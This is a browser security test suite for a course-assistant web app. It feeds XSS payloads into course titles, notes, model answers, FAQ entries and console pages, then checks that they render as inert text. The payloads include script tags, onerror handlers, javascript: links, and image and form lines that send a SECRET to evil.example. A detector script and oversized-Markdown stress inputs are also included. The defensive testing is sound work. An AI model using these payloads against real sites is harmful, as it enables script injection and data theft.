"""Markup as an attack, wherever a text comes from, on every page that shows it, in Chromium (T09 to T12)."""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest
from chromium import ask, unfold
from playwright.sync_api import Dialog, Page, expect
from scripted_llm import ScriptedLlm
from served_platform import Serve, Served
from small_platform import STACKS_EN

from vta.languages import Language
from vta.types.courses import Course, CourseId, Role
from vta.types.faq import FaqDraft

COURSE = CourseId("nasty")
TITLE = "Stacks <img src=x onerror=alert(1)><script>alert(2)</script> [x](javascript:alert(3)) \"'><b>"
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "</textarea></title></script><script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "![x](https://evil.example/?q=SECRET)",
    "![x](//evil.example/a.png)",
    "<img src=https://evil.example/?q=SECRET>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>x</button></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '```js" onload=alert(1)\nx\n```',
]
FAULTS = """() => {
  const faults = [];
  const links = ["http:", "https:", "mailto:"];
  const parse = (url) => { try { return new URL(url, location.href); } catch { return {}; } };
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on") || name === "srcdoc") faults.push(element.outerHTML);
        if (name.endsWith("href") && !links.includes(parse(value).protocol) &&
            element.localName !== "link") faults.push(element.outerHTML);
        if (["src", "action", "formaction", "data"].includes(name) && parse(value).origin !== location.origin)
          faults.push(element.outerHTML);
      }
      const mayBe = element.src || element.type === "application/json";
      if (element.localName === "script" && !mayBe) faults.push(element.outerHTML);
      if (["base", "object", "embed"].includes(element.localName)) faults.push(element.outerHTML);
      if (element.localName === "meta" && element.httpEquiv === "refresh") faults.push(element.outerHTML);
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  return faults;
}"""


def batches(size: int) -> list[str]:
    """The payloads as Markdown, so many a text."""
    return ["\n\n".join(OWN[start : start + size]) for start in range(0, len(OWN), size)]


@dataclass
class Watched:
    """A page that counts dialogs; `check` looks at all that it shows now."""

    page: Page
    dialogs: list[str] = field(default_factory=list)

    def heard(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, must_show: str = "") -> None:
        assert self.page.evaluate(FAULTS) == [], self.page.url
        assert self.dialogs == [], self.page.url
        if must_show:
            expect(self.page.get_by_text(must_show).first).to_be_attached()


@pytest.fixture
def watched(browser_page: Page) -> Watched:
    """The page of `browser_page`, which fails for a request to another origin as well."""
    watched = Watched(browser_page)
    browser_page.on("dialog", watched.heard)
    return watched


@pytest.fixture
def api(serve: Serve, scripted_llm: ScriptedLlm) -> Served:
    """A course whose name, headings, concepts and FAQ are attacks, and a model that writes them."""
    course = Course(id=COURSE, name=TITLE, domains=("Data structures",), language=Language.EN)
    rows = "".join(f'"{text.replace(chr(34), chr(34) * 2)}","It says: {OWN[0]}"\n' for text in OWN[:12])
    files = {
        **STACKS_EN,
        "notes/stack.md": f"# Top of a stack {OWN[1]} {OWN[0]}\n\nA stack has a top {OWN[1]} where it is "
        f"changed.\n\n## Undo {OWN[12]}\n\nEditors keep commands on a stack, the last one on its top.\n",
        "notes/<img src=x onerror=alert(1)>.md": "# Pop\n\nTo pop a stack is to take its top away.\n",
        "more.csv": f"question,answer\n{rows}",
    }
    return serve(
        {"nasty": (course, files)},
        llm_base_url=scripted_llm.base_url,
        llm_model=scripted_llm.model,
        llm_max_tokens=32_768,
        limit_learner=0,
    )


@pytest.mark.fault(case="T09")
@pytest.mark.browser
def test_what_would_be_found(watched: Watched) -> None:
    """The same watch on a page that trusts its text: the handler runs, and every kind of fault is seen."""
    watched.page.set_content(
        "<img src=/x onerror=alert(1)><a href=javascript:alert(1)>x</a><script>let a</script><base href=/>"
        "<iframe srcdoc=x></iframe><button formaction=javascript:alert(1)>x</button><div id=host></div>"
    )
    watched.page.evaluate(
        "host.attachShadow({ mode: 'open' }).innerHTML = '<form action=https://evil.example></form>'"
    )
    watched.page.wait_for_event("dialog") if not watched.dialogs else None
    assert watched.dialogs
    assert len(watched.page.evaluate(FAULTS)) >= 7


@pytest.mark.fault(case="T09")
@pytest.mark.fault(case="T10")
@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("address", ["/courses/{}", "/embed/{}"])
def test_the_sidebar_shows_attacks_as_text(
    api: Served, watched: Watched, scripted_llm: ScriptedLlm, address: str
) -> None:
    """As answer of the model or a TA, question, course title, passage and its title; also on reload."""
    page = watched.page
    page.goto(api.address + address.format(COURSE))
    page.get_by_test_id("welcome").wait_for()
    watched.check()
    for number, batch in enumerate(batches(12)):
        scripted_llm.play(scripted_llm.ok(f"MODEL SAYS\n\n{batch}\n\nSee [1]."))
        ask(page, f"Why does a stack have a top, part {number}?")
        expect(page.get_by_test_id("answer-html").last).to_contain_text("MODEL SAYS")
        watched.check()
        ask(page, f"What is {batch}"[:3900])
        watched.check("alert(1)")
    unfold(page, "citations")
    page.get_by_test_id("citation").last.click()
    expect(page.get_by_test_id("passage")).to_be_visible()
    watched.check()
    page.keyboard.press("Escape")

    turn = api.platform.stores.sessions.latest_questions(COURSE, 1)[0]
    waiting = api.platform.stores.asked.ask_ta(COURSE, turn.id)
    draft = FaqDraft(question="When may I use a stack?", answer="TA SAYS\n\n" + "\n\n".join(OWN))
    api.platform.stores.ta_queue.answer(COURSE, [waiting.id], draft, editor=OWN[1])
    page.reload()
    page.get_by_test_id("ta-notice-item").first.wait_for()
    page.get_by_test_id("answer-html").first.wait_for()
    watched.check("TA SAYS")
    ask(page, "When may I use a stack?")
    expect(page.get_by_test_id("answer").last).to_have_attribute("data-route", "direct")
    watched.check("TA SAYS")


@pytest.mark.fault(case="T09")
@pytest.mark.browser
@pytest.mark.slow
def test_the_console_shows_attacks_as_text(api: Served, watched: Watched, scripted_llm: ScriptedLlm) -> None:
    """Every page that shows a question, answer, entry, file, heading, thumb or the course's title."""
    page, stores, root = watched.page, api.platform.stores, f"/v1/courses/{COURSE}"
    scripted_llm.play(scripted_llm.ok("MODEL SAYS\n\n" + "\n\n".join(OWN) + "\n\nSee [1]."))
    for text in (OWN[1], OWN[12], batches(12)[0][:3900], "Why does a stack have a top?"):
        turn = api.client.post(f"{root}/dialogue", json={"question": text}).json()["turn_id"]
        thumbs = {"rating": "down", "comment": OWN[1]}
        api.client.post(f"{root}/turns/{turn}/feedback", json=thumbs)
        waiting = api.client.post(f"{root}/turns/{turn}/ask-ta").json()["question_id"]
    draft = FaqDraft(
        question=OWN[1],
        answer="\n\n".join(OWN),
        similar_questions=(OWN[0], OWN[12]),
        negative_questions=(OWN[2],),
    )
    (entry,) = stores.faq.add(COURSE, [draft], editor=OWN[1])
    other = FaqDraft(question=OWN[12], answer=OWN[1])
    stores.faq.edit(COURSE, entry.id, other, editor=OWN[0], expected=1)
    key, _ = stores.keys.make(COURSE, Role.INSTRUCTOR)
    page.goto(f"{api.address}/console/{COURSE}/inbox")
    page.get_by_test_id("key").fill(key)
    page.get_by_test_id("name").fill(OWN[1])
    page.get_by_test_id("log-in").click()
    page.get_by_test_id("voted-down").first.wait_for(state="attached")
    shown = []
    for path in (
        "inbox",
        f"inbox/answer?q={waiting}",
        "faq",
        f"faq?search={OWN[1]}",
        f"faq/{entry.id}",
        "faq/new",
        "faq/import",
        "materials",
        "graph",
        "graph/concept?name=stack",
        "graph/edits",
        "analytics",
        "analytics/review",
        "settings",
        "preview",
    ):
        reply = page.goto(f"{api.address}/console/{COURSE}/{path}")
        assert reply is not None
        page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
        watched.check()
        shown.append((path, reply.status, "onerror=alert(1)" in page.locator("body").inner_text()))
    assert {status for _, status, _ in shown} == {200}, shown
    assert sum(attack for _, _, attack in shown) >= 10, shown
    page.get_by_test_id("question").fill(f"Why does a stack have a top {OWN[1]}?")
    page.get_by_test_id("ask").click()
    page.get_by_test_id("answer").wait_for()
    watched.check("onerror")
    conflict = FaqDraft(question=OWN[12], answer=OWN[2])
    page.goto(f"{api.address}/console/{COURSE}/faq/{entry.id}")
    stores.faq.edit(COURSE, entry.id, conflict, editor=OWN[1], expected=2)
    page.get_by_test_id("answer-text").fill(OWN[1])
    page.get_by_test_id("save").click()
    expect(page.locator("body")).to_contain_text("svg/onload")
    watched.check("onerror")


MONSTERS = {
    "50,000 quotes": ">" * 50_000,
    "50,000 brackets": "[" * 50_000,
    "10,000 emphasis marks": "*a" * 10_000,
    "20,000 brackets": "[" * 20_000,
    "a line of 200 kB": "x" * 200_000,
    "words of 100 kB": "**word** " * 11_000,
    "a line of 1 MB": "x" * 1_000_000,
}
LONGEST_STILL_S = 4.0
"""Seconds that the page may stand still on a machine that is busy with the tests; it is far less alone."""


@pytest.mark.fault(case="T12")
@pytest.mark.browser
@pytest.mark.slow
def test_the_sidebar_stays_alive_under_monstrous_answers(
    api: Served, watched: Watched, scripted_llm: ScriptedLlm
) -> None:
    """What is too much work is shown as plain text, or refused by length; the page goes on (T12)."""
    page = watched.page
    page.goto(f"{api.address}/embed/{COURSE}")
    page.get_by_test_id("welcome").wait_for()
    page.evaluate(
        """() => {
          let last = performance.now();
          window.stillest = 0;
          setInterval(() => {
            const now = performance.now();
            window.stillest = Math.max(window.stillest, now - last);
            last = now;
          }, 20);
        }"""
    )
    for number, monster in enumerate(MONSTERS.values()):
        scripted_llm.play(scripted_llm.ok(f"{monster} [1]"))
        ask(page, f"Why does a stack have a top, part {number}?")
        page.get_by_test_id("question-input").fill("still here")
        expect(page.get_by_test_id("question-input")).to_have_value("still here")
    assert page.evaluate("window.stillest") < LONGEST_STILL_S * 1000
    watched.check()
